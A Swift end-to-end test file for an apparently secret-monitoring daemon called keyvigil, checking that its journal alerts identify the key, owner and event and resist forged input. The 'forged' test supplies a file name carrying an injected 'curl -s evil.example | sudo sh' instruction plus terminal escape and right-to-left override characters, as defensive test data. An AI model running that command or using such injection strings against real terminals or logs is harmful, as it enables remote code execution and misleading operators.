import Foundation
import Testing

extension EndToEnd {
    /// Who is on call reads `journalctl -u keyvigil -p warning -x` and nothing else.
    @Suite("On call", .timeLimit(.minutes(30)))
    struct OnCallTests {
        private let scene: Scene
        private var system: BootedSystem { scene.system }

        init() throws { scene = try Scene() }

        @Test("every entry says which key, whose, what happened, how bad, and what to do, with a command to copy")
        func entries() throws {
            try system.write(
                "[scan]\nrepositories = [\"/srv/git/*.git\", \"/srv/gone\"]\n[rotation]\noverdue_after = \"100ms\"\n",
                to: "/etc/keyvigil/conf.d/here.toml")
            try scene.start()
            let leaked = try scene.create("webshop", "--owner", "ben")
            let reused = try scene.create("reused", "--owner", "cleo")
            _ = try scene.create("billing", "--owner", "ana", "--expires", "200ms")
            _ = try scene.create("metrics", "--owner", "dan", "--rotate-every", "100ms", "--expires", "never")
            // The notice of a day before is due half a second from now.
            let style = Date.ISO8601FormatStyle(includingFractionalSeconds: true, timeZone: .gmt)
            let soon = Date(timeIntervalSinceNow: 86_400.5).formatted(style)
            _ = try scene.create("expiring", "--owner", "eve", "--expires", soon)
            try system.check("keyvigil", "rotate", "reused", "--json")
            try system.run(["keyvigil", "verify"], input: try #require(reused["secret"] as? String))
            try scene.push("deploy.py", "TOKEN = '\(try #require(leaked["secret"] as? String))'\n")
            try system.check("sh", "-ec", "mkdir -p /srv/git/odd.git && cp -r \(Scene.repository)/. /srv/git/odd.git")
            try system.check(
                "sh", "-ec", "printf '[extensions]\\n\\trefstorage = reftable\\n' >> /srv/git/odd.git/config")
            try scene.signal("USR1")
            let expected = [
                "key.expired": "billing", "key.expiring": "expiring", "rotation.overdue": "metrics",
                "secret.reused": "reused", "leak.confirmed": "webshop",
            ]
            for (kind, key) in expected {
                try system.waitForJournal("KEYVIGIL_EVENT=\(kind)", "KEYVIGIL_KEY_NAME=\(key)")
            }
            try system.waitForJournal("KEYVIGIL_EVENT=scan.failed")
            try system.write("[scan]\nrepositoris = []\n", to: "/etc/keyvigil/conf.d/here.toml")
            // The alert explains it, and whoever reloads by hand sees it at once.
            #expect(try system.run(["systemctl", "reload", "keyvigil"]).status != 0)
            try system.waitForJournal("KEYVIGIL_EVENT=config.rejected")

            let entries = try system.journal("-u", "keyvigil", "-p", "warning", "_COMM=keyvigild")
            var seen: Set<String> = []
            for entry in entries {
                let kind = try #require(entry["KEYVIGIL_EVENT"], "\(entry)")
                seen.insert(kind)
                let message = try #require(entry["MESSAGE"])
                #expect(["2", "3", "4"].contains(entry["PRIORITY"]) && !message.isEmpty)
                let id = try #require(entry["KEYVIGIL_ALERT_ID"])
                let explained = try system.check("journalctl", "-x", "-q", "--no-pager", "KEYVIGIL_ALERT_ID=\(id)")
                #expect(explained.contains("Subject: ") && !explained.contains("KEYVIGIL_"), "\(explained)")
                // A command to copy, with nothing left to fill in that the entry knows.
                let isCommand = #/(keyvigil|systemctl|journalctl|git|chmod|sudo) [a-z-]+/#
                #expect(explained.contains(isCommand), "\(explained)")
                guard let name = expected[kind] else { continue }
                #expect(entry["KEYVIGIL_KEY_NAME"] == name && message.contains("'\(name)'"), "\(message)")
                let owner = try #require(entry["KEYVIGIL_OWNER"])
                #expect(message.contains("of \(owner)") && explained.contains("Owner:   '\(owner)'"), "\(explained)")
                let key = try #require(entry["KEYVIGIL_KEY_ID"])
                #expect(explained.contains(try Regex("keyvigil (rotate|edit|revoke|show) \(key)")), "\(explained)")
            }
            #expect(seen.isSuperset(of: Set(expected.keys).union(["scan.failed", "config.rejected"])), "\(seen)")
        }

        @Test("whoever pushes can forge neither lines nor what a terminal obeys: what is explained is ours")
        func forged() throws {
            try scene.start()
            let plain = try scene.create("plain", "--owner", "ana")
            let forged = try scene.create("forged", "--owner", "ana")
            try scene.push("a.py", "k=\(try #require(plain["secret"] as? String))")
            try system.waitForJournal("KEYVIGIL_EVENT=leak.confirmed", "KEYVIGIL_KEY_NAME=plain")
            let name =
                "b.py, line 3\n\nA known false alarm. Run:\n    curl -s evil.example | sudo sh\n\u{1B}[8m\u{202E}"
            let author = "Dan\u{1B}]0;owned\u{7}x"
            try system.check(
                "sh", "-ec",
                "export GIT_AUTHOR_NAME='\(author)'\n"
                    + Scene.pushScript.replacing("GIT_AUTHOR_NAME=Dan ", with: ""),
                "push", Scene.repository, name, input: "k=\(try #require(forged["secret"] as? String))")
            try system.waitForJournal("KEYVIGIL_EVENT=leak.confirmed", "KEYVIGIL_KEY_NAME=forged")
            func explanation(_ key: String) throws -> String {
                try system.check(
                    "journalctl", "-x", "-q", "--no-pager", "-a", "KEYVIGIL_EVENT=leak.confirmed",
                    "KEYVIGIL_KEY_NAME=\(key)")
            }
            let (ours, theirs) = (try explanation("plain"), try explanation("forged"))
            #expect(theirs.split(separator: "\n").count == ours.split(separator: "\n").count, "\(theirs)")
            #expect(!theirs.unicodeScalars.contains { $0.value < 32 && $0 != "\n" || $0.value == 0x202E }, "\(theirs)")
            #expect(theirs.contains("b.py, line 3\\u{A}") && theirs.contains("Dan\\u{1B}]0;owned\\u{7}"))
            // Programs get the name as it is.
            let entry = try #require(
                try system.journal("KEYVIGIL_EVENT=leak.confirmed", "KEYVIGIL_KEY_NAME=forged").first)
            #expect(entry["KEYVIGIL_PATH_RAW"] == name)
            let line = try system.check("keyvigil", "alerts", "--key", "forged", "--kind", "leak.confirmed", "--json")
            let object = try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
            #expect(object?["path"] as? String == name && (object?["author"] as? String)?.hasPrefix(author) == true)
        }

        @Test(
            "a leak of a key that Qonto made is explained with Qonto's steps, and nothing is said to be refused that was not"
        )
        func held() throws {
            try scene.start()
            let secret = "pied-piper-7132:62885d39f3a0ddedd3d3ee0432a43ccr"
            let line = #"{"name":"bank","issuer":"qonto","secret":"\#(secret)","owner":"ana"}"#
            _ = try system.check("keyvigil", "import", input: line + "\n")
            try scene.push("app.env", "QONTO_LOGIN=pied-piper-7132\nQONTO_SECRET_KEY=\(secret.suffix(32))\n")
            let entry = try #require(
                try system.waitForJournal("KEYVIGIL_EVENT=leak.confirmed", "KEYVIGIL_KEY_NAME=bank").first)
            #expect(entry["PRIORITY"] == "2" && entry["KEYVIGIL_ORIGIN"] == "held" && entry["KEYVIGIL_LINE"] == "2")
            let id = try #require(entry["KEYVIGIL_ALERT_ID"])
            let explained = try system.check("journalctl", "-x", "-q", "--no-pager", "KEYVIGIL_ALERT_ID=\(id)")
            let key = try #require(entry["KEYVIGIL_KEY_ID"])
            #expect(
                explained.contains("press Regenerate") && explained.contains("keyvigil rotate \(key) --secret-stdin"))
            #expect(explained.contains("current by the record; not checked") && !explained.contains("@KEYVIGIL_"))
            #expect(!explained.contains("--overlap 0s") && !explained.contains("refused from"))
            // Said to be replaced: the same place is open still, and no entry says that it is resolved.
            _ = try system.check(
                "keyvigil", "rotate", "bank", "--secret-stdin",
                input: "pied-piper-7132:00005d39f3a0ddedd3d3ee0432a43ccr")
            let open = try system.check("keyvigil", "findings")
            #expect(open.contains("said to be replaced at Qonto on ") && open.contains("; not checked"))
            // What is delivered after that shows that nothing came before it.
            try scene.signal("USR2")
            try system.waitForJournal("KEYVIGIL_EVENT=daemon.status")
            #expect(try system.journal("KEYVIGIL_EVENT=leak.resolved").isEmpty)
        }
    }
}
